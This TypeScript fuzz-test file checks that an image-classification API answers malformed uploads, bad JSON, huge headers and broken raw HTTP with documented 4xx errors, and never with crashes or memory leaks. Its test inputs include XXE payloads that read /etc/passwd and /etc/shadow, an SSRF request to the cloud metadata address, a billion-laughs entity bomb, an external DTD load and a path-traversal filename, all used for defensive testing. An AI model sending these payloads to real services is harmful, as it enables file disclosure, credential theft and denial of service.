/**
 * Property-based fuzzing of the upload paths (fast-check, fixed seed): random and mutated
 * bytes, corrupted images of every accepted format, lying Content-Types, broken multipart
 * framing, SVG/XML with external references, odd JSON, huge headers and garbage query
 * strings. Every answer must be a documented 4xx problem or a 200 prediction: never a 5xx,
 * a crash or a hang; afterwards the tensor count is unchanged and RSS has not run away.
 */
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { connect } from 'node:net';
import * as tf from '@tensorflow/tfjs';
import fc from 'fast-check';
import type { FastifyInstance, LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildApp } from '../helpers/app.js';
import * as img from '../helpers/images.js';

/** V8's full collection, without starting Node.js with --expose-gc. */
setFlagsFromString('--expose-gc');
const gc = runInNewContext('gc') as () => void;

const SEED = 20261123;
const PROBLEM_SLUGS = /^urn:ml-inference-api:problem:[a-z0-9-]+$/;

interface Sent {
  url: string;
  headers: Record<string, string>;
  body: Buffer | string;
}

let seeds: Buffer[] = [];
let inputs = 0;
const statusCounts = new Map<number, number>();

/** The documented outcomes: a prediction, or a problem document with a 4xx status. */
function checkResponse(sent: Sent, res: LightMyRequestResponse): void {
  inputs++;
  statusCounts.set(res.statusCode, (statusCounts.get(res.statusCode) ?? 0) + 1);
  const where = `${sent.url} ${JSON.stringify(sent.headers).slice(0, 200)} (${Buffer.byteLength(sent.body)} bytes)`;
  expect(res.statusCode, where).toBeLessThan(500);
  const body = res.json<Record<string, unknown>>();
  if (res.statusCode === 200) {
    expect('class_label' in body || 'predictions' in body, where).toBe(true);
    return;
  }
  expect(res.statusCode, where).toBeGreaterThanOrEqual(400);
  expect(res.headers['content-type'], where).toMatch(/^application\/problem\+json/);
  expect(body.type, where).toMatch(PROBLEM_SLUGS);
  expect(body.status, where).toBe(res.statusCode);
  expect(typeof body.detail, where).toBe('string');
  expect(typeof body.request_id, where).toBe('string');
}

// --- generators --------------------------------------------------------------------
const route = fc.constantFrom('/predict', '/predict/batch');
const imageTypes = ['image/jpeg', 'image/png', 'image/gif', 'image/webp', 'image/tiff', 'image/avif', 'image/svg+xml', 'image/x-icon'];
const contentType = fc.oneof(
  fc.constantFrom(...imageTypes, 'application/octet-stream', 'application/json', 'text/plain', 'application/xml', 'text/html', 'multipart/form-data', 'multipart/form-data; boundary=', 'image/', '*/*'),
  fc.string({ maxLength: 60 }).filter((s) => !/[\r\n]/.test(s)),
);
const query = fc.oneof(
  fc.constant(''),
  fc.integer({ min: -5, max: 50 }).map((k) => `?top_k=${k}`),
  fc.constantFrom('?top_k=abc', '?top_k=1e3', '?top_k=', '?top_k[]=1', '?top_k=1&top_k=2', '?%zz', '?a=%00', '?top_k=3.5', `?x=${'y'.repeat(5000)}`),
  fc.string({ maxLength: 80 }).map((s) => `?${encodeURIComponent(s)}`),
  fc.string({ maxLength: 40 }).map((s) => `?${s.replace(/[#\s]/g, '')}`),
);

type Mutation = { kind: 'truncate'; at: number } | { kind: 'flip'; at: number; value: number } | { kind: 'insert'; at: number; bytes: Uint8Array } | { kind: 'cut'; at: number; length: number };
const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  fc.record({ kind: fc.constant('truncate' as const), at: fc.nat() }),
  fc.record({ kind: fc.constant('flip' as const), at: fc.nat(), value: fc.integer({ min: 0, max: 255 }) }),
  fc.record({ kind: fc.constant('insert' as const), at: fc.nat(), bytes: fc.uint8Array({ minLength: 1, maxLength: 64 }) }),
  fc.record({ kind: fc.constant('cut' as const), at: fc.nat(), length: fc.integer({ min: 1, max: 200 }) }),
);

function mutate(source: Buffer, mutations: readonly Mutation[]): Buffer {
  let out = Buffer.from(source);
  for (const m of mutations) {
    const at = out.length === 0 ? 0 : m.at % out.length;
    if (m.kind === 'truncate') out = out.subarray(0, at);
    else if (m.kind === 'flip') out[at] = m.value;
    else if (m.kind === 'insert') out = Buffer.concat([out.subarray(0, at), m.bytes, out.subarray(at)]);
    else out = Buffer.concat([out.subarray(0, at), out.subarray(at + m.length)]);
  }
  return out;
}

const mutatedImage = fc.tuple(fc.nat(), fc.array(mutation, { minLength: 0, maxLength: 4 })).map(([i, ms]) => mutate(seeds[i % seeds.length]!, ms));
const fileBytes = fc.oneof(mutatedImage, fc.uint8Array({ maxLength: 1024 }).map((b) => Buffer.from(b)));

const HOSTILE_XML = [
  '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="32" height="32"><image xlink:href="http://169.254.169.254/latest/meta-data" width="32" height="32"/></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/shadow"/></svg>',
  '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&lol3;</text></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg" width="100000" height="100000"><rect width="100%" height="100%"/></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(http://example.com/x.css);</style></svg>',
  '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % ext SYSTEM "http://example.com/evil.dtd"> %ext;]><r/>',
];
const hostileXml = fc.tuple(fc.constantFrom(...HOSTILE_XML), fc.array(mutation, { maxLength: 2 })).map(([x, ms]) => mutate(Buffer.from(x), ms));

/** A multipart body with the given parts, then framing damage. */
function multipartBody(boundary: string, parts: { field: string; filename: string | null; type: string; bytes: Buffer }[], closing: boolean): Buffer {
  const chunks: Buffer[] = [];
  for (const p of parts) {
    const disp = `form-data; name="${p.field}"${p.filename === null ? '' : `; filename="${p.filename}"`}`;
    chunks.push(Buffer.from(`--${boundary}\r\nContent-Disposition: ${disp}\r\nContent-Type: ${p.type}\r\n\r\n`), p.bytes, Buffer.from('\r\n'));
  }
  if (closing) chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return Buffer.concat(chunks);
}

const multipartRequest = fc
  .record({
    url: route,
    query,
    boundary: fc.oneof(fc.constant('fuzzboundary'), fc.string({ minLength: 1, maxLength: 70 }).filter((s) => !/[\r\n"]/.test(s))),
    headerBoundary: fc.option(fc.string({ maxLength: 70 }).filter((s) => !/[\r\n]/.test(s)), { freq: 4 }),
    parts: fc.array(
      fc.record({
        field: fc.constantFrom('file', 'files', 'image', '', 'file"; filename="x', 'a'.repeat(300)),
        filename: fc.option(fc.constantFrom('a.jpg', '../../etc/passwd', '', 'x'.repeat(1000), 'ñ.png'), { nil: null }),
        type: fc.constantFrom(...imageTypes, 'text/plain', 'application/octet-stream'),
        bytes: fileBytes,
      }),
      { minLength: 0, maxLength: 4 },
    ),
    closing: fc.boolean(),
    damage: fc.array(mutation, { maxLength: 2 }),
    damageFraming: fc.boolean(),
  })
  .map((r): Sent => {
    const body = multipartBody(r.boundary, r.parts, r.closing);
    const boundary = r.headerBoundary ?? r.boundary;
    return {
      url: r.url + r.query,
      headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
      body: r.damageFraming ? mutate(body, r.damage) : body,
    };
  });

const rawRequest = fc.record({ url: route, query, type: contentType, bytes: fc.oneof(fileBytes, hostileXml) }).map(
  (r): Sent => ({ url: r.url + r.query, headers: r.type ? { 'content-type': r.type } : {}, body: r.bytes }),
);

const base64ish = fc.oneof(
  mutatedImage.map((b) => b.toString('base64')),
  fc.string({ maxLength: 200 }),
  mutatedImage.map((b) => `data:image/png;base64,${b.toString('base64')}`),
  fc.base64String({ maxLength: 400 }),
);
const jsonRequest = fc
  .record({
    url: route,
    query,
    body: fc.oneof(
      base64ish.map((image) => ({ image })),
      fc.array(base64ish, { maxLength: 5 }).map((images) => ({ images })),
      fc.jsonValue({ maxDepth: 3 }),
    ),
    breakIt: fc.option(fc.array(mutation, { minLength: 1, maxLength: 2 }), { freq: 3 }),
  })
  .map((r): Sent => {
    const text = JSON.stringify(r.body) ?? 'null';
    return { url: r.url + r.query, headers: { 'content-type': 'application/json' }, body: r.breakIt ? mutate(Buffer.from(text), r.breakIt).toString('latin1') : text };
  });

const hugeHeaders = fc
  .record({
    url: route,
    name: fc.constantFrom('x-request-id', 'user-agent', 'x-api-key', 'authorization', 'accept', 'x-custom'),
    value: fc.oneof(fc.string({ minLength: 1000, maxLength: 15000 }), fc.constant('a'.repeat(12000))).map((s) => s.replace(/[^\x20-\x7e]/g, 'a')),
    bytes: mutatedImage,
  })
  .map((r): Sent => ({ url: r.url, headers: { 'content-type': 'image/jpeg', [r.name]: r.value }, body: r.bytes }));

describe('fuzzed uploads', () => {
  let app: FastifyInstance;
  beforeAll(async () => {
    // One in-thread instance (its tensors live in this test's engine) and no cache (every
    // valid image reaches the model).
    app = await buildApp({ INFERENCE_WORKERS: '0', CACHE_MAX_ENTRIES: '0' });
    seeds = [
      img.photo('cat'),
      img.photo('ship'),
      await img.pngRgba(),
      await img.animatedGif(),
      await img.webp(),
      await img.tiff(),
      await img.jpegCmyk(),
      img.svg,
    ];
  });
  afterAll(async () => {
    console.log(`fuzz: seed ${SEED}, ${inputs} generated inputs, statuses ${JSON.stringify(Object.fromEntries([...statusCounts].sort()))}`);
    await app.close();
  });

  const send = async (sent: Sent): Promise<void> => {
    const res = await app.inject({ method: 'POST', url: sent.url, headers: sent.headers, body: sent.body });
    checkResponse(sent, res);
  };

  it('never answers 5xx, and leaves no tensors behind and RSS in bounds', { timeout: 600_000 }, async () => {
    // Warm every path before measuring.
    for (const s of seeds) await send({ url: '/predict', headers: { 'content-type': 'image/jpeg' }, body: s });
    const tensors = tf.memory().numTensors;
    const runs: [string, fc.Arbitrary<Sent>, number][] = [
      ['raw bodies: random and mutated bytes, hostile XML, lying Content-Types', rawRequest, 3500],
      ['multipart: broken framing, wrong fields, odd boundaries and file names', multipartRequest, 3500],
      ['JSON: base64 that is not an image, broken JSON, any JSON value', jsonRequest, 2500],
      ['huge header values', hugeHeaders, 500],
    ];
    // The allocators' pools filled by every kind of input first (another seed), and RSS read
    // after a full collection at both ends: growth is what is still held, not pools or garbage
    // that this Node.js's V8 has not collected yet (Node 24's keep more than Node 20's).
    for (const [, arbitrary] of runs) await fc.assert(fc.asyncProperty(arbitrary, send), { seed: SEED + 1, numRuns: 500, endOnFailure: true });
    gc();
    const rssBefore = process.memoryUsage().rss;
    for (const [name, arbitrary, numRuns] of runs) {
      await fc.assert(fc.asyncProperty(arbitrary, send), { seed: SEED, numRuns, endOnFailure: true });
      console.log(`fuzz: ${name}: ${numRuns} inputs`);
    }
    expect(inputs).toBeGreaterThanOrEqual(10_000);
    expect(tf.memory().numTensors).toBe(tensors);
    gc();
    const growthMb = (process.memoryUsage().rss - rssBefore) / 2 ** 20;
    console.log(`fuzz: RSS ${Math.round(rssBefore / 2 ** 20)} MB before, growth ${growthMb.toFixed(1)} MB`);
    expect(growthMb).toBeLessThan(200);
  });

  it('answers broken HTTP on real sockets with a 4xx or a close, never a 5xx or a hang', { timeout: 300_000 }, async () => {
    await app.listen({ host: '127.0.0.1', port: 0 });
    const { port } = app.server.address() as { port: number };
    const raw = fc.record({
      method: fc.constantFrom('POST', 'GET', 'PUT', 'P0ST', '', 'POST /predict'),
      path: fc.constantFrom('/predict', '/predict/batch', '/predict?top_k=2', '//predict', '/predict/../health', '*', '/%00'),
      version: fc.constantFrom('HTTP/1.1', 'HTTP/1.0', 'HTTP/2.0', 'HTTP/1.1x', ''),
      headers: fc.array(
        fc.tuple(
          fc.constantFrom('Content-Type', 'Content-Length', 'Transfer-Encoding', 'X-Big', 'Host', 'Expect'),
          fc.oneof(fc.string({ maxLength: 40 }), fc.constantFrom('chunked', '-1', '99999999999', 'image/jpeg', '100-continue', 'x'.repeat(20_000))),
        ),
        { maxLength: 5 },
      ),
      body: fc.uint8Array({ maxLength: 512 }),
    });
    const exchange = (r: { method: string; path: string; version: string; headers: [string, string][]; body: Uint8Array }) =>
      new Promise<string>((resolve, reject) => {
        const socket = connect(port, '127.0.0.1');
        let received = '';
        const timer = setTimeout(() => {
          socket.destroy();
          reject(new Error('no answer and no close within 5 s'));
        }, 5000);
        socket.on('data', (d: Buffer) => {
          received += d.toString('latin1');
          if (/\r\n\r\n/.test(received)) socket.end();
        });
        socket.on('error', () => {});
        socket.on('close', () => {
          clearTimeout(timer);
          resolve(received);
        });
        const head = `${r.method} ${r.path} ${r.version}\r\nHost: x\r\n${r.headers.map(([k, v]) => `${k}: ${v.replace(/[\r\n]/g, '')}`).join('\r\n')}\r\n\r\n`;
        socket.write(Buffer.concat([Buffer.from(head, 'latin1'), r.body]));
      });
    let exchanges = 0;
    await fc.assert(
      fc.asyncProperty(raw, async (r) => {
        const reply = await exchange(r);
        exchanges++;
        const status = /^HTTP\/1\.[01] (\d{3})/.exec(reply)?.[1];
        if (status) expect(Number(status), reply.slice(0, 200)).toBeLessThan(500);
      }),
      { seed: SEED, numRuns: 300, endOnFailure: true },
    );
    console.log(`fuzz: raw HTTP on sockets: ${exchanges} exchanges`);
    const health = await fetch(`http://127.0.0.1:${port}/health`);
    expect(health.status).toBe(200);
  });
});
